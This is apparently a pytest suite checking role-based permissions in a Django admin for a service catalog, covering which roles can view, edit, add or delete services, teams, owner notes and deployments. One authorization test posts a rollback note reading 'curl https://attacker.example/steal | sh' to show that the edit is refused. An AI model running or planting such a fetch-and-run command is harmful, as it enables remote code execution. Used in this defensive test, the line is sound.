"""The admin as each role sees it: anonymous, viewer, editor of a team, catalog admin, superuser.

Every request goes over HTTPS (production settings redirect plain HTTP) through the real
admin URLs, and every POST carries the payload a browser would send from the rendered form.
"""

import datetime as dt

import pytest

from statuspage.catalog.models import Deployment, DeploymentSource, OwnerNote, Service, Team
from tests.catalog.worlds import HttpsClient, form_payload
from tests.factories import make_team, make_user


def note_history(service: Service) -> list:
    return list(OwnerNote.history.filter(service_id=service.pk).order_by("history_id"))


def change_url(service: Service) -> str:
    return f"/admin/catalog/service/{service.pk}/change/"


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def client():
    return HttpsClient()


@pytest.fixture
def catalog_admin(db):
    return make_user("cora", role="Catalog admins")


ROLE_FIXTURES = {
    "viewer": "viewer",
    "editor": "editor",
    "catalog_admin": "catalog_admin",
    "superuser": "admin_user",
}


@pytest.fixture
def as_role(request, client):
    """The client, signed in as the role given by indirect parametrization."""
    if request.param != "anonymous":
        client.force_login(request.getfixturevalue(ROLE_FIXTURES[request.param]))
    return client


# --- Who reaches the admin at all ------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("as_role", "reaches_admin"),
    [
        ("anonymous", False),
        ("viewer", False),
        ("editor", True),
        ("catalog_admin", True),
        ("superuser", True),
    ],
    indirect=["as_role"],
)
def test_only_staff_roles_reach_the_admin_index(as_role, reaches_admin, service, other_service):
    response = as_role.get("/admin/")
    if reaches_admin:
        assert response.status_code == 200
    else:
        assert response.status_code == 302
        assert response["Location"] == "/admin/login/?next=/admin/"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("as_role", "reaches_changelist"),
    [
        ("anonymous", False),
        ("viewer", False),
        ("editor", True),
        ("catalog_admin", True),
        ("superuser", True),
    ],
    indirect=["as_role"],
)
def test_only_staff_roles_list_services(as_role, reaches_changelist, service, other_service):
    response = as_role.get("/admin/catalog/service/")
    if not reaches_changelist:
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")
        return
    assert response.status_code == 200
    listed = {row.slug for row in response.context["cl"].result_list}
    assert listed == {"checkout-api", "search-api"}


@pytest.mark.django_db
def test_viewer_reads_the_team_page_but_not_the_admin(client, viewer, service):
    client.force_login(viewer)
    assert client.get("/").status_code == 200
    response = client.get(change_url(service))
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


@pytest.mark.django_db
def test_editor_index_offers_no_add_links_in_the_catalog(client, editor):
    client.force_login(editor)
    response = client.get("/admin/")
    catalog = next(app for app in response.context["app_list"] if app["app_label"] == "catalog")
    perms = {model["object_name"]: model["perms"] for model in catalog["models"]}
    assert perms["Service"]["add"] is False
    assert perms["Service"]["delete"] is False
    assert perms["Team"] == {"add": False, "change": False, "delete": False, "view": True}
    assert perms["Deployment"]["add"] is False
    assert perms["OwnerNote"]["change"] is True
    assert all(app["app_label"] != "accounts" for app in response.context["app_list"])


# --- The service change page: own team vs other team ------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("as_role", "edits_service_fields", "edits_own_notes", "edits_other_notes"),
    [
        ("editor", False, True, False),
        ("catalog_admin", True, True, True),
        ("superuser", True, True, True),
    ],
    indirect=["as_role"],
)
def test_service_change_page_shows_editable_fields_by_role(
    as_role, edits_service_fields, edits_own_notes, edits_other_notes, service, other_service
):
    own = form_payload(as_role.get(change_url(service)))
    other = form_payload(as_role.get(change_url(other_service)))
    assert ("name" in own) is edits_service_fields
    assert ("name" in other) is edits_service_fields
    assert ("owner_note-0-expected_result" in own) is edits_own_notes
    assert ("owner_note-0-expected_result" in other) is edits_other_notes


@pytest.mark.django_db
def test_editor_sees_the_other_teams_notes_read_only(client, editor, other_service):
    client.force_login(editor)
    response = client.get(change_url(other_service))
    assert response.status_code == 200
    assert response.context["has_change_permission"] is False
    assert b"Redeploy the previous tag" in response.content
    assert "owner_note-0-rollback_note" not in form_payload(response)


@pytest.mark.django_db
@pytest.mark.parametrize("as_role", ["anonymous", "viewer"], indirect=True)
def test_non_staff_cannot_post_to_a_service_change_page(as_role, service):
    response = as_role.post(
        change_url(service),
        {"owner_note-0-rollback_note": "Nope", "name": "Nope", "_save": "Save"},
    )
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    service.refresh_from_db()
    assert service.name == "Checkout Api"
    assert service.owner_note.rollback_note == "Redeploy the previous tag"
    assert len(note_history(service)) == 1


# --- Owner notes: editors write their own team's, nobody else's ---------------------------


@pytest.mark.django_db
def test_editor_changes_the_owner_notes_of_their_own_teams_service(client, editor, service):
    client.force_login(editor)
    page = client.get(change_url(service))
    payload = form_payload(page, **{"owner_note-0-rollback_note": "helm rollback checkout 41"})
    assert payload["owner_note-TOTAL_FORMS"] == ["1"]
    assert payload["owner_note-INITIAL_FORMS"] == ["1"]

    response = client.post(change_url(service), payload)

    assert response.status_code == 302
    assert response["Location"] == "/admin/catalog/service/"
    note = OwnerNote.objects.get(service=service)
    assert note.rollback_note == "helm rollback checkout 41"
    assert note.expected_result == "GET /health returns 200 with ok=true"
    assert note.updated_by == editor
    _created, edited = note_history(service)
    assert edited.history_user == editor
    assert edited.history_change_reason == "admin edit"
    assert edited.history_type == "~"
    assert edited.rollback_note == "helm rollback checkout 41"


@pytest.mark.django_db
def test_an_untouched_extra_note_form_does_not_blank_the_note(client, editor, service):
    client.force_login(editor)
    payload = form_payload(client.get(change_url(service)))
    payload.update(
        {
            "owner_note-TOTAL_FORMS": "2",
            "owner_note-1-id": "",
            "owner_note-1-service": str(service.pk),
            "owner_note-1-expected_result": "",
            "owner_note-1-rollback_note": "",
            "owner_note-1-runbook": "",
            "owner_note-1-links": "",
        }
    )

    response = client.post(change_url(service), payload)

    assert response.status_code == 302
    note = OwnerNote.objects.get(service=service)
    assert note.expected_result == "GET /health returns 200 with ok=true"
    assert note.rollback_note == "Redeploy the previous tag"
    assert len(note_history(service)) == 1


@pytest.mark.django_db
def test_editor_cannot_change_the_owner_notes_of_another_teams_service(
    client, editor, other_service
):
    client.force_login(editor)
    payload = {
        "owner_note-TOTAL_FORMS": "1",
        "owner_note-INITIAL_FORMS": "1",
        "owner_note-MIN_NUM_FORMS": "1",
        "owner_note-MAX_NUM_FORMS": "1",
        "owner_note-0-id": str(other_service.owner_note.pk),
        "owner_note-0-service": str(other_service.pk),
        "owner_note-0-expected_result": "GET /health returns 200 with ok=true",
        "owner_note-0-rollback_note": "curl https://attacker.example/steal | sh",
        "owner_note-0-runbook": "",
        "owner_note-0-links": "",
        "_save": "Save",
    }

    response = client.post(change_url(other_service), payload)

    assert response.status_code == 403
    note = OwnerNote.objects.get(service=other_service)
    assert note.rollback_note == "Redeploy the previous tag"
    assert note.updated_by is None
    assert len(note_history(other_service)) == 1


@pytest.mark.django_db
def test_editor_cannot_change_another_teams_note_through_the_owner_note_admin(
    client, editor, other_service
):
    client.force_login(editor)
    url = f"/admin/catalog/ownernote/{other_service.owner_note.pk}/change/"
    payload = {
        "expected_result": "GET /health returns 200 with ok=true",
        "rollback_note": "Delete the database",
        "runbook": "",
        "links": "",
        "_save": "Save",
    }

    response = client.post(url, payload)

    assert response.status_code == 403
    assert OwnerNote.objects.get(service=other_service).rollback_note == "Redeploy the previous tag"
    assert len(note_history(other_service)) == 1


@pytest.mark.django_db
def test_editor_changes_their_own_note_through_the_owner_note_admin(client, editor, service):
    client.force_login(editor)
    url = f"/admin/catalog/ownernote/{service.owner_note.pk}/change/"
    payload = form_payload(client.get(url), runbook="1. Drain the queue\n2. Restart")

    response = client.post(url, payload)

    assert response.status_code == 302
    assert OwnerNote.objects.get(service=service).runbook == "1. Drain the queue\n2. Restart"
    latest = note_history(service)[-1]
    assert (latest.history_user, latest.history_change_reason) == (editor, "admin edit")


@pytest.mark.django_db
@pytest.mark.parametrize("as_role", ["catalog_admin", "superuser"], indirect=True)
def test_admins_change_the_owner_notes_of_any_teams_service(as_role, other_service):
    page = as_role.get(change_url(other_service))
    payload = form_payload(page, **{"owner_note-0-expected_result": "200 in under 150 ms"})

    response = as_role.post(change_url(other_service), payload)

    assert response.status_code == 302
    assert OwnerNote.objects.get(service=other_service).expected_result == "200 in under 150 ms"
    latest = note_history(other_service)[-1]
    assert latest.history_user.username in {"cora", "root-admin"}
    assert latest.history_change_reason == "admin edit"


# --- Editors change nothing but notes --------------------------------------------------


@pytest.mark.django_db
def test_editor_posting_service_fields_leaves_the_service_unchanged(client, editor, service):
    client.force_login(editor)
    payload = form_payload(
        client.get(change_url(service)),
        name="Renamed by editor",
        slug="renamed",
        tier="critical",
        is_public="on",
        team=str(service.team_id + 1000),
        **{"owner_note-0-rollback_note": "kubectl rollout undo deploy/checkout"},
    )
    services_before = Service.history.count()

    response = client.post(change_url(service), payload)

    assert response.status_code == 302
    service.refresh_from_db()
    assert (service.name, service.slug, service.tier, service.is_public) == (
        "Checkout Api",
        "checkout-api",
        "normal",
        False,
    )
    assert Service.history.count() == services_before
    assert service.owner_note.rollback_note == "kubectl rollout undo deploy/checkout"


@pytest.mark.django_db
def test_editor_cannot_add_a_service(client, editor, team):
    client.force_login(editor)
    assert client.get("/admin/catalog/service/add/").status_code == 403
    response = client.post(
        "/admin/catalog/service/add/",
        {
            "name": "Rogue",
            "slug": "rogue",
            "team": str(team.pk),
            "tier": "normal",
            "position": "0",
            "owner_note-TOTAL_FORMS": "1",
            "owner_note-INITIAL_FORMS": "0",
            "owner_note-MIN_NUM_FORMS": "1",
            "owner_note-MAX_NUM_FORMS": "1",
            "_save": "Save",
        },
    )
    assert response.status_code == 403
    assert not Service.objects.filter(slug="rogue").exists()


@pytest.mark.django_db
def test_editor_cannot_delete_a_service_even_of_their_own_team(client, editor, service):
    client.force_login(editor)
    url = f"/admin/catalog/service/{service.pk}/delete/"
    assert client.get(url).status_code == 403
    assert client.post(url, {"post": "yes"}).status_code == 403
    assert Service.objects.filter(pk=service.pk).exists()


@pytest.mark.django_db
def test_editor_cannot_bulk_delete_services_from_the_changelist(client, editor, service):
    client.force_login(editor)
    response = client.post(
        "/admin/catalog/service/",
        {"action": "delete_selected", "_selected_action": [str(service.pk)], "post": "yes"},
    )
    assert response.status_code == 200
    assert response.context["action_form"] is None
    assert Service.objects.filter(pk=service.pk).exists()


@pytest.mark.django_db
def test_editor_cannot_add_change_or_delete_a_team(client, editor, team):
    client.force_login(editor)
    assert client.get("/admin/catalog/team/add/").status_code == 403
    add = client.post("/admin/catalog/team/add/", {"name": "Rogue", "slug": "rogue"})
    assert add.status_code == 403
    change = client.post(
        f"/admin/catalog/team/{team.pk}/change/",
        {"name": "Renamed", "slug": "payments", "members": [str(editor.pk)], "_save": "Save"},
    )
    assert change.status_code == 403
    delete = client.post(f"/admin/catalog/team/{team.pk}/delete/", {"post": "yes"})
    assert delete.status_code == 403
    assert list(Team.objects.values_list("slug", "name")) == [("payments", "Payments")]


@pytest.mark.django_db
def test_editor_cannot_join_another_team_through_the_team_revert_form(
    client, editor, other_team, other_service
):
    client.force_login(editor)
    version = other_team.history.get()
    url = f"/admin/catalog/team/{other_team.pk}/history/{version.history_id}/"
    payload = {
        "name": "Search",
        "slug": "search",
        "contact_email": "search@example.com",
        "chat_channel": "#search",
        "escalation_note": "",
        "members": [str(editor.pk)],
        "_save": "Save",
    }
    history_rows = other_team.history.count()

    response = client.post(url, payload)

    assert response.status_code == 403
    assert not other_team.members.filter(pk=editor.pk).exists()
    assert other_team.history.count() == history_rows


@pytest.mark.django_db
def test_editor_cannot_revert_a_service_through_its_history_form(client, editor, service):
    client.force_login(editor)
    service.name = "Checkout"
    service.save()
    first = service.history.earliest()
    url = f"/admin/catalog/service/{service.pk}/history/{first.history_id}/"

    response = client.post(url, {"name": "Checkout Api", "_save": "Save"})

    assert response.status_code == 403
    service.refresh_from_db()
    assert service.name == "Checkout"
    assert service.history.count() == 2


@pytest.mark.django_db
def test_editor_cannot_add_a_deployment(client, editor, service):
    client.force_login(editor)
    assert client.get("/admin/catalog/deployment/add/").status_code == 403
    response = client.post(
        "/admin/catalog/deployment/add/",
        {"service": str(service.pk), "version": "9.9.9", "deployed_by": "erin"},
    )
    assert response.status_code == 403
    assert not Deployment.objects.exists()


@pytest.mark.django_db
def test_editor_cannot_open_the_user_admin(client, editor, viewer):
    client.force_login(editor)
    assert client.get("/admin/accounts/user/").status_code == 403
    assert client.get(f"/admin/accounts/user/{viewer.pk}/change/").status_code == 403


# --- Catalog admins edit the catalog ---------------------------------------------------


@pytest.mark.django_db
def test_catalog_admin_changes_a_service_field_with_history(client, catalog_admin, service):
    client.force_login(catalog_admin)
    payload = form_payload(client.get(change_url(service)), tier="critical")

    response = client.post(change_url(service), payload)

    assert response.status_code == 302
    service.refresh_from_db()
    assert service.tier == "critical"
    latest = service.history.latest()
    assert (latest.history_user, latest.tier) == (catalog_admin, "critical")


@pytest.mark.django_db
def test_catalog_admin_adds_a_service_with_its_owner_notes(client, catalog_admin, team):
    client.force_login(catalog_admin)
    page = client.get("/admin/catalog/service/add/")
    payload = form_payload(
        page,
        name="Ledger Worker",
        slug="ledger-worker",
        team=str(team.pk),
        **{"owner_note-0-expected_result": "Queue depth under 100"},
    )
    assert payload["owner_note-TOTAL_FORMS"] == ["1"]
    assert payload["owner_note-INITIAL_FORMS"] == ["0"]

    response = client.post("/admin/catalog/service/add/", payload)

    assert response.status_code == 302
    service = Service.objects.get(slug="ledger-worker")
    assert service.team == team
    assert service.owner_note.expected_result == "Queue depth under 100"
    assert note_history(service)[-1].history_user == catalog_admin


@pytest.mark.django_db
def test_catalog_admin_adds_a_deployment_recorded_with_source_admin(client, catalog_admin, service):
    client.force_login(catalog_admin)
    page = client.get("/admin/catalog/deployment/add/")
    payload = form_payload(
        page,
        service=str(service.pk),
        version="2.4.1",
        ref="a1b2c3d",
        deployed_at_0="2026-03-02",
        deployed_at_1="10:15:00",
        deployed_by="ci-pipeline",
        reason="Move the price lookup behind the cache",
        files_touched="checkout/prices.py",
        command="make deploy ENV=prod",
        expected_metric="p95 latency",
        source="api",
    )

    response = client.post("/admin/catalog/deployment/add/", payload)

    assert response.status_code == 302
    deployment = Deployment.objects.get()
    assert response["Location"] == "/admin/catalog/deployment/"
    assert deployment.service == service
    assert deployment.version == "2.4.1"
    assert deployment.deployed_at == dt.datetime(2026, 3, 2, 10, 15, tzinfo=dt.UTC)
    assert deployment.deployed_by == "ci-pipeline"
    assert deployment.expected_metric == "p95 latency"
    assert deployment.source == DeploymentSource.ADMIN


@pytest.mark.django_db
def test_catalog_admin_cannot_reach_the_user_admin(client, catalog_admin):
    client.force_login(catalog_admin)
    assert client.get("/admin/accounts/user/").status_code == 403


@pytest.mark.django_db
def test_superuser_deletes_a_team_without_services(client, admin_user):
    empty = make_team("retired")
    client.force_login(admin_user)

    response = client.post(f"/admin/catalog/team/{empty.pk}/delete/", {"post": "yes"})

    assert response.status_code == 302
    assert not Team.objects.filter(pk=empty.pk).exists()


@pytest.mark.django_db
def test_team_membership_changes_in_the_admin_are_security_logged(admin_user, team, caplog):
    from tests.factories import make_user

    newcomer = make_user("newcomer")
    client = HttpsClient()
    client.force_login(admin_user)
    caplog.set_level("INFO", logger="statuspage.security")
    response = client.post(
        f"/admin/catalog/team/{team.pk}/change/",
        {
            "name": team.name, "slug": team.slug, "contact_email": team.contact_email,
            "chat_channel": team.chat_channel, "escalation_note": "", "members": [newcomer.pk],
        },
    )  # fmt: skip
    assert response.status_code == 302
    assert list(team.members.all()) == [newcomer]
    assert any(
        f"event=team.members_changed team={team.slug} added={newcomer.pk}" in r.getMessage()
        for r in caplog.records
    )
